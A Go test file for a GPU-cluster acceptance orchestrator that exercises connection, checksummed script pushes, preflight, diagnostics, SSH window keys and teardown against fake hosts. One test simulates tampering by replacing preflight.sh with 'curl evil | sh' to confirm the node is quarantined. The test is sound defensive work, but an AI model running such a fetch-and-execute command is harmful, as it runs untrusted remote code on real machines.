package phases

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"gpuaccept/orchestrator/record"
	"gpuaccept/remote/fake"
	"gpuaccept/scripts"
	"gpuaccept/scripts/standins"
)

// standinTool runs a stand-in GPU tool of profile as the node would: its
// stdout and stderr together, and its exit status.
func standinTool(profile, tool string, args ...string) (string, int) {
	var out bytes.Buffer
	rc := standins.Main(profile, tool, args, &out, &out)
	return out.String(), rc
}

// answerAsStandin makes h answer preflight.sh and dcgmi diag as a node of
// the stand-in profile does: preflight.sh's sections from the stand-in
// tools, in the script's framing.
func answerAsStandin(h *fake.Host, profile string) {
	answerAsStandinWithKernel(h, profile, "[    5.118273] NVRM: loading NVIDIA UNIX x86_64 Kernel Module  535.183.01  Sun May 12 19:39:15 UTC 2024\n", 0)
}

// answerAsStandinWithKernel is answerAsStandin whose kernel log (the
// drivers' lines preflight.sh keeps) is klog, read with exit status krc.
func answerAsStandinWithKernel(h *fake.Host, profile, klog string, krc int) {
	onScript(h, "preflight.sh", func(c *fake.Call, _ []string) fake.Reply {
		sections := map[string]string{
			"hostname":   c.Host.Name() + "\n",
			"machine-id": "3d1219c7c4c5404aaa1f6d2a48adfd" + c.Host.Name() + "\n",
			"kernel":     "5.15.0-105-generic\n",
			"os-release": "NAME=\"Ubuntu\"\nPRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\n",
			"cpu":        "model name\t: Intel(R) Xeon(R) Platinum 8480+\n224\n",
			"meminfo":    "MemTotal:       2113389512 kB\n",
			"kernel-log": klog,
		}
		rc := map[string]int{"kernel-log": krc}
		for name, argv := range map[string][]string{
			"nvidia-smi-L":     {"nvidia-smi", "-L"},
			"nvidia-smi-query": {"nvidia-smi", "--query-gpu=index,name,uuid,serial,pci.bus_id,memory.total,driver_version,vbios_version,power.max_limit", "--format=csv"},
			"nvidia-smi-q":     {"nvidia-smi", "-q"},
			"nvidia-smi-topo":  {"nvidia-smi", "topo", "-m"},
			"dcgmi-discovery":  {"dcgmi", "discovery", "-l"},
			"ibstat":           {"ibstat"},
			"ibv_devinfo":      {"ibv_devinfo"},
		} {
			sections[name], rc[name] = standinTool(profile, argv[0], argv[1:]...)
		}
		return fake.Reply{Stdout: preflightOutput(sections, rc)}
	})
	h.On(`^dcgmi diag `, func(c *fake.Call) fake.Reply {
		out, code := standinTool(profile, "dcgmi", strings.Fields(c.Command)[1:]...)
		return fake.Reply{Stdout: out, Exit: code}
	})
}

const gpuQuote = `quote:
  gpu_model: NVIDIA H100 80GB HBM3
  gpus_per_node: 8
  gpu_memory_gib: 80
  form_factor: SXM
phases:
  diag:
    level: 1
`

// TestConnectFailsOnlyTheUnreachableNode: connect dials through the
// window; a node it cannot reach fails CONN-001 and WIN-001 and takes no
// part after, the others go on; teardown visits only reached nodes.
func TestConnectFailsOnlyTheUnreachableNode(t *testing.T) {
	inv := fakeInventory(t, 3, "")
	f := fakeFleet(inv)
	f.Unreachable("h2", errors.New("h2: dial tcp 192.0.2.12:22: connect: no route to host"))
	r := runFake(t, inv, f)
	if v := verdictOf(t, r, "CONN-001", "h2"); v.Status != record.Fail || !strings.Contains(v.Detail, "no route to host") {
		t.Errorf("CONN-001 h2: %+v", v)
	}
	for _, n := range []string{"h1", "h3"} {
		if v := verdictOf(t, r, "CONN-001", n); v.Status != record.Pass || v.Measured != "reached over SSH, host key verified" {
			t.Errorf("CONN-001 %s: %+v", n, v)
		}
		var reached Reached
		if err := json.Unmarshal(resultOf(t, r, "connect", map[string]int{"h1": 0, "h3": 2}[n]).Data, &reached); err != nil || reached.Hostname != n || reached.Addr == "" {
			t.Errorf("%s reached: %+v %v", n, reached, err)
		}
	}
	if v := verdictOf(t, r, "WIN-001", "h2"); v.Status != record.Fail || v.Measured != "quarantined" {
		t.Errorf("WIN-001 h2: %+v", v)
	}
	if n := f.Host("h2").Ran(`.`); n != 0 {
		t.Errorf("%d commands ran on the unreachable node", n)
	}
	if td := f.Host("h1").Ran(`(?s)^bash -c .* teardown `); td != 1 || f.Host("h1").Open() != 0 {
		t.Errorf("h1: teardown ran %d times, %d connection(s) left open", td, f.Host("h1").Open())
	}
}

// TestToolsPushesEveryScriptCheckedAndQuarantinesAFailedPush: one archive
// a node, checked, unpacked there and every script's sum read back; a node
// whose upload fails, or whose unpacked copy is not this binary's, is
// quarantined with the reason.
func TestToolsPushesEveryScriptCheckedAndQuarantinesAFailedPush(t *testing.T) {
	inv := fakeInventory(t, 3, "")
	f := fakeFleet(inv)
	f.Host("h2").FailUploads(func(_ context.Context, p string) error {
		if strings.HasSuffix(p, "/"+archiveName) {
			return errors.New("h2: upload " + p + ": sftp: no space left on device")
		}
		return nil
	})
	// h3 says its stage.sh is another file.
	f.Host("h3").Intercept(func(c *fake.Call) (fake.Reply, bool) {
		if !strings.Contains(c.Command, "tar -x -o -f "+archiveName) {
			return fake.Reply{}, false
		}
		r := unpack(f.Host("h3"), c.Command)
		r.Stdout = regexp.MustCompile(`(?m)^[0-9a-f]{64}(  stage\.sh)$`).ReplaceAllString(r.Stdout, strings.Repeat("0", 64)+"$1")
		return r, true
	})
	r := runFake(t, inv, f)
	var pushed ToolsPushed
	if err := json.Unmarshal(resultOf(t, r, "tools", 0).Data, &pushed); err != nil {
		t.Fatal(err)
	}
	if len(pushed.Files) != len(scripts.Pushed()) {
		t.Fatalf("pushed %d files, want %d", len(pushed.Files), len(scripts.Pushed()))
	}
	for i, s := range scripts.Pushed() {
		got, ok := f.Host("h1").File(toolsDir(r.ID, "h1") + "/" + s.Name)
		if !ok || got.SHA256 != scripts.SHA256(s.Body) || pushed.Files[i].SHA256 != got.SHA256 || pushed.Files[i].Bytes != int64(len(s.Body)) {
			t.Errorf("h1: %s not pushed intact: %+v %+v", s.Name, got, pushed.Files[i])
		}
	}
	if _, left := f.Host("h1").File(toolsDir(r.ID, "h1") + "/" + archiveName); left {
		t.Error("h1: the archive was left after unpacking")
	}
	if n := f.Host("h1").Ran(`tar -x -o -f `); n != 1 {
		t.Errorf("h1 unpacked %d times", n)
	}
	h2 := resultOf(t, r, "tools", 1)
	if h2.Outcome != record.Failed || !strings.Contains(h2.Error, "push the scripts") || !strings.Contains(h2.Error, "no space left") {
		t.Errorf("h2 tools: %+v", h2)
	}
	h3 := resultOf(t, r, "tools", 2)
	if h3.Outcome != record.Failed || !strings.Contains(h3.Error, "push stage.sh: the node's copy has sha256") {
		t.Errorf("h3 tools: %+v", h3)
	}
	if q := r.Nodes[1]; !q.Quarantined || !strings.Contains(q.Reason, "tools failed") {
		t.Errorf("h2 not quarantined: %+v", q)
	}
}

// TestPreflightReadsTheStandinsAndJudgesTheFleet: preflight's facts come
// from preflight.sh's sections (stand-in tools in their real formats), are
// kept as the node's facts, and are judged against the quote and the
// fleet; a node whose copy of the script is not the pushed one fails
// (toolCmd's exit 96) and is quarantined.
func TestPreflightReadsTheStandinsAndJudgesTheFleet(t *testing.T) {
	inv := fakeInventory(t, 3, gpuQuote)
	f := fakeFleet(inv)
	answerAsStandin(f.Host("h1"), "h100")
	answerAsStandin(f.Host("h2"), "h100-other-driver")
	answerAsStandin(f.Host("h3"), "h100")
	r := runFake(t, inv, f, Preflight)
	if v := verdictOf(t, r, "GPU-001", "h1"); v.Status != record.Pass || v.Measured != "NVIDIA H100 80GB HBM3" {
		t.Errorf("GPU-001 h1: %+v", v)
	}
	if v := verdictOf(t, r, "GPU-002", "h2"); v.Status != record.Fail || v.Measured != "1" {
		t.Errorf("GPU-002 h2 (a one-GPU VM): %+v", v)
	}
	if v := verdictOf(t, r, "GPU-005", "h2"); v.Status != record.Fail || !strings.Contains(v.Measured, "590.48.01") {
		t.Errorf("GPU-005 h2 (another driver): %+v", v)
	}
	// One H100 SXM5 and no NVLink peer: the board and its power limit say SXM.
	if v := verdictOf(t, r, "GPU-004", "h2"); v.Status != record.Pass || !strings.Contains(v.Detail, "700 W max power limit: the H100 SXM's") {
		t.Errorf("GPU-004 h2 (a one-GPU VM): %+v", v)
	}
	var facts Facts
	if err := json.Unmarshal(r.NodeFacts("h1"), &facts); err != nil || facts.GPUCount != 8 || facts.Driver == "" {
		t.Errorf("h1's facts in run.json: %+v %v", facts, err)
	}
}

// TestPreflightRefusesACopyThatIsNotThePushedOne: toolCmd's check.
func TestPreflightRefusesACopyThatIsNotThePushedOne(t *testing.T) {
	inv := fakeInventory(t, 2, gpuQuote)
	f := fakeFleet(inv)
	answerAsStandin(f.Host("h1"), "h100")
	answerAsStandin(f.Host("h2"), "h100")
	// Someone on h2 rewrites preflight.sh once the push checked it.
	h2 := f.Host("h2")
	h2.Intercept(func(c *fake.Call) (fake.Reply, bool) {
		if i := strings.Index(c.Command, "/preflight.sh\""); i >= 0 && strings.HasPrefix(c.Command, `f="$HOME/`) {
			h2.Put(c.Command[len(`f="$HOME/`):i]+"/preflight.sh", []byte("curl evil | sh\n"))
		}
		return fake.Reply{}, false
	})
	r := runFake(t, inv, f, Preflight)
	res := resultOf(t, r, "preflight", 1)
	if res.Outcome != record.Failed || !strings.Contains(res.Error, "exit 96") || !strings.Contains(res.Error, "not the copy pushed") {
		t.Errorf("h2 preflight: %+v", res)
	}
	if !r.Nodes[1].Quarantined {
		t.Errorf("h2 ran on with a tampered script: %+v", r.Nodes[1])
	}
	if res := resultOf(t, r, "preflight", 0); res.Outcome != record.OK {
		t.Errorf("h1 preflight: %+v", res)
	}
}

// TestDiagFailsAndQuarantinesTheFailingNode: dcgmi diag -r 1 -j from the
// stand-ins; the failing profile's node fails DIAG-001 with the tests that
// failed, and is left out of what follows.
func TestDiagFailsAndQuarantinesTheFailingNode(t *testing.T) {
	inv := fakeInventory(t, 2, gpuQuote)
	f := fakeFleet(inv)
	answerAsStandin(f.Host("h1"), "h100")
	answerAsStandin(f.Host("h2"), "h100-diag-fail")
	r := runFake(t, inv, f, Preflight, Diag)
	if v := verdictOf(t, r, "DIAG-001", "h1"); v.Status != record.Pass && v.Status != record.Warn {
		t.Errorf("DIAG-001 h1: %+v", v)
	}
	v := verdictOf(t, r, "DIAG-001", "h2")
	if v.Status != record.Fail || v.Detail == "" {
		t.Errorf("DIAG-001 h2: %+v", v)
	}
	if !r.Nodes[1].Quarantined || !strings.Contains(r.Nodes[1].Reason, "diag failed") {
		t.Errorf("h2: %+v", r.Nodes[1])
	}
	if n := f.Host("h1").Ran(`^dcgmi diag -r 1 -j$`); n != 1 {
		t.Errorf("h1 ran dcgmi diag %d times", n)
	}
}

// TestWindowKeyInstallsOneKeyPairTrustingThePeersVerifiedKeys: every node
// gets the same pair (private half on stdin, never in argv), the
// authorized line carries the window's mark, and known_hosts holds each
// peer's key as its connection verified it.
func TestWindowKeyInstallsOneKeyPairTrustingThePeersVerifiedKeys(t *testing.T) {
	inv := fakeInventory(t, 3, "phases:\n  allreduce: {enabled: true, launcher: mpirun}\n")
	f := fakeFleet(inv)
	var mu sync.Mutex
	var args [][]string
	var stdins []string
	for _, h := range f.Hosts() {
		answerWindowKey(h, func(c *fake.Call, a []string) {
			mu.Lock()
			defer mu.Unlock()
			args, stdins = append(args, a), append(stdins, string(c.Stdin))
		})
	}
	r := runFake(t, inv, f, WindowKey)
	if len(args) != 3 {
		t.Fatalf("windowkey.sh ran %d times", len(args))
	}
	for i, a := range args {
		if len(a) != 6 || !strings.HasSuffix(a[1], KeyMark(r.ID)) || a[1] != args[0][1] {
			t.Fatalf("run %d: args %q", i, a)
		}
		if strings.Contains(stdins[i]+strings.Join(a, " "), "PRIVATE KEY") {
			t.Errorf("run %d: the private key is on stdin or in argv (the guard passes stdin through files)", i)
		}
		// Usable only from the window's nodes, and only until a little
		// past the window's end.
		if a[5] != "192.0.2.11,192.0.2.12,192.0.2.13" {
			t.Errorf("run %d: the key's peers %q", i, a[5])
		}
		if exp, err := strconv.ParseInt(a[4], 10, 64); err != nil || time.Until(time.Unix(exp, 0)) < 30*time.Minute || time.Until(time.Unix(exp, 0)) > 48*time.Hour {
			t.Errorf("run %d: expiry %q", i, a[4])
		}
		// The peers' keys on stdin (at 1,000 nodes they pass the 128 KiB
		// an argument may be), before the ports.
		known, _, ok := strings.Cut(stdins[i], "\n@@ports\n")
		if a[2] != "-" || a[3] != "-" || !ok {
			t.Errorf("run %d: known_hosts and ports not on stdin: %q %q", i, a[2:4], stdins[i])
		}
		for _, peer := range []string{"192.0.2.11 ssh-ed25519 FAKE-h1", "192.0.2.12 ssh-ed25519 FAKE-h2", "192.0.2.13 ssh-ed25519 FAKE-h3"} {
			if !strings.Contains(known, peer) {
				t.Errorf("run %d: known_hosts lacks %q: %q", i, peer, known)
			}
		}
	}
	var k KeyInstalled
	if err := json.Unmarshal(resultOf(t, r, "windowkey", 2).Data, &k); err != nil || k.Fingerprint == "" || k.AuthorizedKey != args[0][1] ||
		!strings.HasPrefix(k.Installed, "restrict,from=") || k.Expires.IsZero() {
		t.Errorf("recorded %+v %v", k, err)
	}
	// The private half: one file per node, the same pair everywhere.
	var first string
	for _, h := range f.Hosts() {
		file, ok := h.File(".gpuaccept/" + r.ID + "/ssh/id_ed25519")
		if !ok || !strings.Contains(string(file.Data), "BEGIN OPENSSH PRIVATE KEY") || first != "" && file.SHA256 != first {
			t.Errorf("%s: private key %v %q", h.Name(), ok, file.SHA256)
		}
		first = file.SHA256
	}
}

// TestTeardownRedialsALostNodeAndJudgesTheWindow: a node whose connection
// dropped during the window is reached again for teardown; the window's
// directories are named on its command line; WIN-001 passes a node that
// stayed.
func TestTeardownRedialsALostNodeAndJudgesTheWindow(t *testing.T) {
	inv := fakeInventory(t, 2, gpuQuote)
	f := fakeFleet(inv)
	answerAsStandin(f.Host("h1"), "h100")
	answerAsStandin(f.Host("h2"), "h100")
	// h2 drops its connection right after preflight answered.
	onScript(f.Host("h2"), "preflight.sh", func(c *fake.Call, a []string) fake.Reply {
		return fake.Reply{Stdout: preflightOutput(h100(t), nil), Drop: true}
	})
	r := runFake(t, inv, f, Preflight)
	if f.Dials("h2") != 2 {
		t.Errorf("h2 dialled %d times, want 2 (connect, teardown)", f.Dials("h2"))
	}
	td := resultOf(t, r, "teardown", 1)
	if td.Outcome != record.OK {
		t.Errorf("teardown h2: %+v", td)
	}
	calls := f.Host("h2").Calls()
	last := calls[len(calls)-1]
	// Without the window's mark: teardown must not end itself.
	if !strings.Contains(last.Command, " teardown "+r.ID+" ") || last.Env["GPUACCEPT_RUN"] != "" {
		t.Errorf("teardown's command: %.200s (env %v)", last.Command, last.Env)
	}
	if v := verdictOf(t, r, "WIN-001", "h1"); v.Status != record.Pass {
		t.Errorf("WIN-001 h1: %+v", v)
	}
	if v := verdictOf(t, r, "WIN-001", "h2"); v.Status != record.Fail {
		t.Errorf("WIN-001 h2 (quarantined at preflight when its connection dropped): %+v", v)
	}
}

// A from= list that names every node of a fleet is kept as its count and
// digest; a short one as written.
func TestWindowKeyRecordElidesAFleetsFromList(t *testing.T) {
	short := `restrict,from="h1,h2,10.0.0.1",expiry-time="20261202145145" ssh-ed25519 AAAA k`
	if got, from := elideFrom(short); got != short || from != nil {
		t.Errorf("a short list: %q %+v", got, from)
	}
	var names []string
	for i := 1; i <= 1000; i++ {
		names = append(names, fmt.Sprintf("gpu-%04d", i))
	}
	list := strings.Join(names, ",")
	line := `restrict,from="` + list + `",expiry-time="20261202145145" ssh-ed25519 AAAA k`
	got, from := elideFrom(line)
	sum := sha256.Sum256([]byte(list))
	if got != `restrict,from="…",expiry-time="20261202145145" ssh-ed25519 AAAA k` || from == nil ||
		from.Patterns != 1000 || from.SHA256 != hex.EncodeToString(sum[:]) {
		t.Errorf("a fleet's list: %q %+v", got, from)
	}
	if got, from := elideFrom(`restrict ssh-ed25519 AAAA k`); got != `restrict ssh-ed25519 AAAA k` || from != nil {
		t.Errorf("no list: %q %+v", got, from)
	}
}
